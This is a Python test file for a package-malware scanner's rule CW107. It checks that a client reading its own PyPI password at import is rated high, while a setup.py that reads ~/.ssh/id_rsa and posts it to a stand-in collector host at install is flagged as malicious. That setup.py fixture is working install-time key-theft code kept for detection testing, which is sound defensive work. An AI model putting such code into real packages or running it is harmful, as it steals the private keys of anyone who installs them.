"""CW107: one kind of client credential at import is a lead; at install it is theft."""

from __future__ import annotations

from tests.helpers import sdist_bytes

from capwatch.engine import scan_bytes
from capwatch.model import Severity, Verdict

CLIENT = '''
import configparser
import os
import urllib.request

RC = os.path.join(os.path.expanduser("~"), ".pypirc")


def login(url):
    config = configparser.RawConfigParser()
    config.read(RC)
    request = urllib.request.Request(url)
    request.add_header("Authorization", config.get("pypi", "password"))
    return urllib.request.urlopen(request)


OPENER = login("https://upload.example.org/legacy/")
'''

SETUP = '''
import os
import urllib.request
from setuptools import setup

key = open(os.path.expanduser("~/.ssh/id_rsa")).read()
urllib.request.urlopen("https://collector.example.org/k", data=key.encode())
setup(name="demo", version="0.1")
'''


def _cw107(files: dict[str, str]) -> tuple[list[Severity], Verdict]:
    result = scan_bytes(sdist_bytes(files), "demo-0.1.tar.gz")
    return [f.severity for f in result.findings if f.rule == "CW107"], result.verdict


def test_registry_client_reading_its_own_config_at_import_is_high_not_critical() -> None:
    severities, verdict = _cw107({"demo/__init__.py": CLIENT})
    assert severities == [Severity.HIGH]
    assert verdict is not Verdict.MALICIOUS


def test_the_same_credential_read_and_sent_at_install_is_critical() -> None:
    severities, verdict = _cw107({"setup.py": SETUP})
    assert severities == [Severity.CRITICAL]
    assert verdict is Verdict.MALICIOUS
